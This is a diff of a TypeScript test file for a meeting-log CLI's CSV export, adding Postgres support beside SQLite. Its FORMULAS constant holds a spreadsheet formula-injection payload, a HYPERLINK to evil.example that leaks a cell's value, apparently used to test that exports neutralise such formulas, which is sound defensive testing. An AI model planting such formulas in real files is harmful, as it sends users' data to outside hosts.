@@ -1,9 +1,8 @@
-import Database from 'better-sqlite3';
 import { parse } from 'csv-parse/sync';
 import { chmodSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { sandbox, type Sandbox } from './helpers.js';
+import { ENGINE, sandbox, type Sandbox } from './helpers.js';
 import { runInPty } from './pty.js';
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', '+1', '-2+3', '@SUM(A1:A9)'];
@@ -11,6 +10,25 @@ const TRICKY = 'her kids\' safety, "above all"\nand the rent 🏠';
 
 function csvOf(text: string): Record<string, string>[] {
   return parse(text, { columns: true, bom: true }) as Record<string, string>[];
+}
+
+/** 2020-01-01 plus `i` times ten minutes, as a time: no date arithmetic is written alike in both dialects. */
+function tenMinutesAfter2020(i: string): string {
+  return ENGINE === 'postgres'
+    ? `timestamptz '2020-01-01T00:00:00Z' + ${i} * interval '600 seconds'`
+    : `strftime('%Y-%m-%dT%H:%M:%S.000Z', '2020-01-01', '+' || (${i} * 600) || ' seconds')`;
+}
+
+/**
+ * Meetings added in bulk. On the server a trigger recounts the person's figures for each new meeting, all in the one
+ * statement (so over ever longer chains of row versions): 200,000 of them ran for over 15 minutes. So the recount is
+ * off for the fill, and each person is recounted once after. Then ANALYZE, as autovacuum would a minute after such a
+ * load: without statistics the export took 68 s, with them 9 s.
+ */
+function withoutRecounts(box: Sandbox, insert: string): void {
+  if (ENGINE === 'sqlite') return void box.sql(insert);
+  box.sql(`ALTER TABLE meetings DISABLE TRIGGER person_figures_meetings; ${insert};
+    ALTER TABLE meetings ENABLE TRIGGER person_figures_meetings; SELECT refresh_person_figures(id) FROM people`);
 }
 
 describe('export', () => {
@@ -29,9 +47,7 @@ describe('export', () => {
     const bo = box.run(['log', 'Bo Chen', '--date', '2026-11-03 09:30', '--minutes', '20', '--goal', 'maintenance', '--template', 'agenda']);
     expect(bo.code, bo.stderr).toBe(0);
     // `log` records no clock; a meeting run with `start` would have these.
-    const db = new Database(box.db);
-    db.prepare(`UPDATE meeting_phases SET actual_seconds = 300, organizer_talk_seconds = 60, other_talk_seconds = 180 WHERE meeting_id = 1`).run();
-    db.close();
+    box.sql(`UPDATE meeting_phases SET actual_seconds = 300, organizer_talk_seconds = 60, other_talk_seconds = 180 WHERE meeting_id = 1`);
   });
 
   afterAll(() => box.cleanup());
@@ -43,10 +59,8 @@ describe('export', () => {
       'id,person,date,goal,template,status,planned_minutes,actual_minutes,organizer_talk_share,asks,outcomes,rung_after,agitation,' +
         'values,interests,motivations,issues,skills,capacity,stories_shared,lead_ins,other_notes',
     );
-    const db = new Database(box.db, { readonly: true });
-    const phases = (db.prepare(`SELECT count(*) AS n FROM meeting_phases WHERE meeting_id = 1`).get() as { n: number }).n;
-    const heldAt = db.prepare(`SELECT held_at FROM meetings ORDER BY id`).pluck().all() as string[];
-    db.close();
+    const phases = box.sql<{ n: number }>(`SELECT count(*) AS n FROM meeting_phases WHERE meeting_id = 1`)[0]!.n;
+    const heldAt = box.sql<{ held_at: string }>(`SELECT held_at FROM meetings ORDER BY id`).map((row) => row.held_at);
     const rows = csvOf(result.stdout);
     expect(rows).toHaveLength(2);
     expect(rows[0]).toEqual({
@@ -120,7 +134,8 @@ describe('export', () => {
     expect(csvOf(readFileSync(out, 'utf8'))).toHaveLength(6);
   });
 
-  it('refuses to write over the database itself', () => {
+  // Only SQLite's record is a file that --out could name.
+  it.skipIf(ENGINE === 'postgres')('refuses to write over the database itself', () => {
     const result = box.run(['export', 'people', '--out', box.db]);
     expect(result.code).toBe(1);
     expect(result.stderr).toContain('is your database itself');
@@ -137,21 +152,21 @@ describe('export', () => {
     const big = sandbox();
     try {
       expect(big.run(['log', 'Ana Ruiz', '--date', '2026-01-05 18:00']).code).toBe(0);
-      const db = new Database(big.db);
-      // Generated inside SQLite (a recursive count), so filling takes a moment, not most of the test.
-      db.exec(`
-        WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 499)
+      // Generated inside the database (a recursive count), so filling takes a moment, not most of the test.
+      big.sql(`
         INSERT INTO people (name, name_key, rung, created_at, updated_at)
-        SELECT 'Person ' || i, 'person ' || i, 'contact', '2026-01-01', '2026-01-01' FROM n;
-        WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 199999)
+        WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 499)
+        SELECT 'Person ' || i, 'person ' || i, 'contact', '2026-01-01', '2026-01-01' FROM n`);
+      withoutRecounts(big, `
         INSERT INTO meetings (person_id, held_at, goal, template, planned_minutes, status, created_at, updated_at)
-        SELECT 1 + i % 500, strftime('%Y-%m-%dT%H:%M:%S.000Z', '2020-01-01', '+' || (i * 600) || ' seconds'),
-               'recruitment', 'agenda', 30, 'complete', '2026-01-01', '2026-01-01' FROM n;
+        WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 199999)
+        SELECT 1 + i % 500, ${tenMinutesAfter2020('i')}, 'recruitment', 'agenda', 30, 'complete', '2026-01-01', '2026-01-01' FROM n`);
+      big.sql(`
         INSERT INTO notes (person_id, meeting_id, tag, text, created_at)
-        SELECT person_id, id, 'value', 'said "yes", line ' || (id - 1) || char(10) || 'next', '2026-01-01'
-        FROM meetings WHERE id > 1 AND (id - 1) % 10 = 0;
-      `);
-      db.close();
+        SELECT person_id, id, 'value', 'said "yes", line ' || (id - 1) || '
+next', '2026-01-01'
+        FROM meetings WHERE id > 1 AND (id - 1) % 10 = 0`);
+      if (ENGINE === 'postgres') big.sql('ANALYZE');
       const out = join(big.dir, 'all.csv');
       const started = Date.now();
       const result = big.run(['export', 'meetings', '--out', out], { timeout: 120_000 });
